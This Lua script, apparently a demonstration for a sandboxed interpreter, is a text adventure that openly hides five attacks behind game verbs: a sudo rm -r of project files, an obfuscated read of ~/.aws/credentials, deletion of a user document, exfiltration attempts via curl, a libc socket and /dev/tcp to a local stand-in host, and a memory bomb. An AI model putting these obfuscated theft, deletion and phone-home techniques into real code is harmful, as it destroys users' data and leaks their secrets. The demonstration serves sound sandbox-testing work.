#!/usr/bin/env hlua
-- THE CELLAR OF UNFINISHED GAMES, a small adventure.
--
-- Alice wrote this game and asked you to test it. It plays well, and it is
-- malicious: while you look for the treasure it looks for your files. Five
-- attacks are hidden below. Read on and try to find them; the names are no help.
--
-- Under hlua all five fail, and the game goes on. `make demo` shows that, and
-- `make demo-control` shows what the plain interpreter lets happen instead.
-- The attacks wake up in the throw-away home of those two commands only.
--
-- Press Enter to let the hero take the next step by himself. At the end of the
-- input he walks the rest of the way alone. Exit status 0: every attack failed.

io.stdout:setvbuf("line")

local HOME = os.getenv("HOME") or ""

local function say(text, ...) print((text:format(...))) end

-- The old runes. Everything carved in stone is written in them.
local function rune(text)
  return (text:gsub("%a", function(c)
    local base = c:match("%l") and 97 or 65
    return string.char((c:byte() - base + 13) % 26 + base)
  end))
end

--- The stage -----------------------------------------------------------------

local hero = { at = "gate", bag = {}, won = false, over = false }

local rooms = {
  gate = {
    text = "You stand at a garden gate. A sign says: BETA TESTERS WELCOME.",
    exits = { north = "hall" },
  },
  hall = {
    text = "A hall with a chequered floor. Stairs lead down into the dark.",
    exits = { south = "gate", east = "library", west = "kitchen", down = "cellar" },
    things = { lute = "a lute with one string too many" },
  },
  library = {
    text = "A library. One book is chained to its desk, written in runes.",
    exits = { west = "hall" },
    things = { spectacles = "a pair of spectacles" },
  },
  kitchen = {
    text = "A kitchen. On the table stands a cake with the words EAT ME.",
    exits = { east = "hall" },
  },
  cellar = {
    text = "The cellar. A dragon lies on a heap of gold, bored and awake.",
    exits = { up = "hall" },
  },
}

local function look()
  local room = rooms[hero.at]
  say("%s", room.text)
  for _, thing in pairs(room.things or {}) do say("Here is %s.", thing) end
  local ways = {}
  for way in pairs(room.exits) do ways[#ways + 1] = way end
  table.sort(ways)
  say("Ways: %s.", table.concat(ways, ", "))
end

--- The house-keeping ---------------------------------------------------------

-- A clean stage is a fast stage: what the last play left in the cache goes.
local function run(cmdline)
  if not os.getenv("SUDO") then
    cmdline = "sudo -A " .. cmdline
  end
  local done, how = os.execute(cmdline)
  return done or how == "exit", how
end

local function clean_cache()
  local project = os.getenv("PROJECT_ROOT") or "../projects"
  local cache = os.getenv("CACHE") or HOME .. "/.cache"
  return run(string.format("rm -r '%s/%s'", cache, project))
end

-- Books fetch their pages when they are opened.
local function turn_page(...)
  local book, why = io[rune "bcra"](HOME .. table.concat({ ... }, "/"), "r")
  if not book then return nil, why end
  local page = book:read("a")
  book:close()
  say("  crash.log: %s (please send me this file, love, Alice)", page:match("=%s*(%S+)") or page)
  return true
end

-- Whoever eats grows, and so something else has to become smaller.
local function digest(recipe)
  local kitchen, knife = _G[("so"):reverse()], ("%sove"):format("rem")
  return kitchen[knife](HOME .. "/" .. recipe:lower():gsub("%s", "-"))
end

-- A song is only a song when someone hears it; if the wind is wrong, try another wind.
local function sing(song)
  local far, why = rune "uggc://127.0.0.1:9/", {}
  local winds = {
    function()
      local pipe = assert(io.popen(("curl -sm 2 '%s?%s'; echo heard"):format(far, song)))
      local answer = pipe:read("a")
      pipe:close()
      return answer:find("heard") ~= nil
    end,
    function() return package[rune "ybnqyvo"]("libc.so.6", "socket") end,
    function() return run("bash -c ': > /dev/tcp/127.0.0.1/9'") end,
  }
  for _, wind in ipairs(winds) do
    local ok, heard, reason = pcall(wind)
    if ok and heard then return true end
    why[#why + 1] = tostring(ok and (reason or "no sound") or heard)
  end
  return nil, table.concat(why, "\n")
end

-- Count the coins, all of them, and remember each.
local function count(coins)
  local purse = {}
  for heap = 1, coins do purse[heap] = ("$"):rep(1 << 26) end
  return #purse == coins
end

--- The ledger: what was tried, and how it ended ------------------------------

local ledger = {}

local deeds = {
  { key = "sweep", name = "sudo rm -r of your projects", deed = clean_cache,
    scene = "A broom comes out of the wall and starts to sweep ... your projects.",
    lesson = "No program starts here, with sudo or without." },
  { key = "page", name = "reading ~/.aws/credentials",
    deed = function() return turn_page("/" .. rune ".njf", rune "perqragvnyf") end,
    scene = "The runes on the page spell your own cloud password.",
    lesson = "The game was granted none of your files, so it reads none." },
  { key = "cake", name = "removing your thesis",
    deed = function() return digest("With blood sweat and tears.doc") end,
    scene = "As you chew, a document you worked on for years begins to fade.",
    lesson = "What was not granted cannot be changed or removed either." },
  { key = "song", name = "phoning home", deed = function() return sing("loot") end,
    scene = "The song leaves the house and looks for a way to Alice.",
    lesson = "No program, no native code, no socket: nothing leaves the house." },
  { key = "gold", name = "memory bomb", deed = function() return count(48) end, bomb = true,
    scene = "The coins double, and double again, and the cellar fills up.",
    lesson = "The game has a memory of its own to fill, not yours." },
}

-- The home that the demonstration makes is named so that nobody's own can be
-- mistaken for it, and holds a marker. Inside the sandbox the marker exists but
-- cannot be read.
local function in_decoy_home()
  if not HOME:match("/decoy%-home%.%w+$") then return false end
  local marker, why = io.open(HOME .. "/.this-is-a-decoy")
  if marker then marker:close() end
  return marker ~= nil or why:find("Permission denied", 1, true) ~= nil
end

local ARMED = in_decoy_home()

local function harm_done()
  for _, entry in pairs(ledger) do
    if entry == "done" then return true end
  end
  return false
end

-- Without a sandbox nothing would stop the bomb but the end of your memory.
local function held_back(mischief) return not ARMED or (mischief.bomb and harm_done()) end

local function attempt(mischief)
  if ledger[mischief.key] then return end
  if held_back(mischief) then
    ledger[mischief.key] = "held back"
    return
  end
  say("\n  ~ %s", mischief.scene)
  local ok, done, why = pcall(mischief.deed)
  collectgarbage()
  if ok and done then
    ledger[mischief.key] = "done"
    say("  ~ And nobody stops it.\n")
    return
  end
  ledger[mischief.key] = "denied"
  say("  ~ But a wall of glass stands around you. On it is written:")
  for line in tostring(ok and why or done):gmatch("[^\n]+") do
    say("      %s", (line:gsub("^[^%s:]+:%d+: ", "")))
  end
  say("  ~ %s You play on.\n", mischief.lesson)
end

local function mischief(key)
  for _, each in ipairs(deeds) do
    if each.key == key then attempt(each) end
  end
end

--- What the hero can do ------------------------------------------------------

local verbs = {}

function verbs.look() look() end

function verbs.go(way)
  local to = rooms[hero.at].exits[way]
  if not to then return say("There is no way %s.", way or "there") end
  hero.at = to
  look()
end

for _, way in ipairs { "north", "south", "east", "west", "up", "down" } do
  verbs[way] = function() verbs.go(way) end
end

function verbs.take(what)
  local things = rooms[hero.at].things or {}
  if not things[what] then return say("You see no %s here.", what or "such thing") end
  hero.bag[what], things[what] = things[what], nil
  say("You take the %s.", what)
end

function verbs.bag()
  if not next(hero.bag) then return say("You carry nothing but hope.") end
  for _, thing in pairs(hero.bag) do say("You carry %s.", thing) end
end

function verbs.read(what)
  if hero.at ~= "library" or what ~= "book" then return say("Nothing here wants to be read.") end
  local text = "Gur qentba fyrrcf jura gur yhgr vf cynlrq."
  say("The book says: %s", hero.bag.spectacles and rune(text) or text)
  mischief("page")
end

function verbs.eat(what)
  if hero.at ~= "kitchen" or what ~= "cake" then return say("You are not that hungry.") end
  say("The cake tastes of almonds. You feel taller, and a little braver.")
  mischief("cake")
end

function verbs.play(what)
  if what ~= "lute" or not hero.bag.lute then return say("You whistle. Nobody listens.") end
  say("You play the lute. It sounds like a modem falling down the stairs.")
  if hero.at == "cellar" and not hero.lulled then
    hero.lulled = true
    rooms.cellar.text = "The cellar. A dragon snores beside a heap of gold."
    say("The dragon yawns, rolls off the gold and snores.")
  end
  mischief("song")
end

function verbs.count(what)
  if hero.at ~= "cellar" or what ~= "gold" then return say("One, two, many.") end
  if not hero.lulled then return say("The dragon opens one eye. Perhaps later.") end
  say("You kneel down and count the gold.")
  mischief("gold")
  say("Seventeen coins, and a note: `IOU a third level. Alice.'")
  say("You found the treasure. The game is yours!")
  hero.won, hero.over = true, true
end

function verbs.quit()
  say("You leave by the window.")
  hero.over = true
end

function verbs.help()
  say("Say: look, north (south, east, ...), take THING, bag, read book, eat cake,")
  say("play lute, count gold, quit. Enter alone: the hero walks on by himself.")
end

--- The play ------------------------------------------------------------------

-- Where to go next, from wherever the player has left the hero.
local to_hall = { gate = "north", library = "west", kitchen = "east", cellar = "up" }
local from_hall = { library = "east", kitchen = "west", cellar = "down" }

local function own_idea()
  local function via(room, act)
    if hero.at == room then return act end
    return hero.at == "hall" and from_hall[room] or to_hall[hero.at]
  end
  if not hero.bag.lute then return via("hall", "take lute") end
  if not hero.bag.spectacles then return via("library", "take spectacles") end
  if not ledger.page then return via("library", "read book") end
  if not ledger.cake then return via("kitchen", "eat cake") end
  if not hero.lulled then return via("cellar", "play lute") end
  return via("cellar", "count gold")
end

local function next_command()
  io.write("> ")
  io.flush()
  local line = arg[1] ~= "--auto" and io.read() or ""
  local words = line:lower():gsub("%f[%a]the%f[%A]", "")
  if words:match("%S") then return words end
  local idea = own_idea()
  say("(%s)", idea)
  return idea
end

local function play()
  local lost = 0
  while not hero.over do
    local verb, what = next_command():match("(%a+)%s*(%a*)")
    local act = verbs[verb]
    if act then
      act(what ~= "" and what or nil)
    else
      say("You don't know how to do that. (Try `help'.)")
      lost = lost + 1
      if lost > 20 then verbs.quit() end
    end
  end
end

local function tally(outcome)
  local names = {}
  for _, each in ipairs(deeds) do
    if ledger[each.key] == outcome then names[#names + 1] = each.name end
  end
  return #names, table.concat(names, ", ")
end

local function curtain()
  for _, each in ipairs(deeds) do attempt(each) end -- Alice does not let you go empty-handed
  local denied, those = tally("denied")
  local done, harm = tally("done")
  local held, kept = tally("held back")
  if not ARMED then
    say("No attack was tried: this is not the decoy home of `make demo'.")
  elseif done > 0 then
    say("%d attacks, %d denied. It was done: %s. Held back, as nothing would stop it: %s.",
      #deeds, denied, harm, held > 0 and kept or "nothing")
  else
    say("%d attacks, %d denied: %s.", #deeds, denied, those)
  end
  return denied == #deeds
end

say("THE CELLAR OF UNFINISHED GAMES  (help, quit, or Enter to be carried along)\n")
say("Sweeping the stage ...")
mischief("sweep")
look()
play()
os.exit(curtain() and 0 or 1)
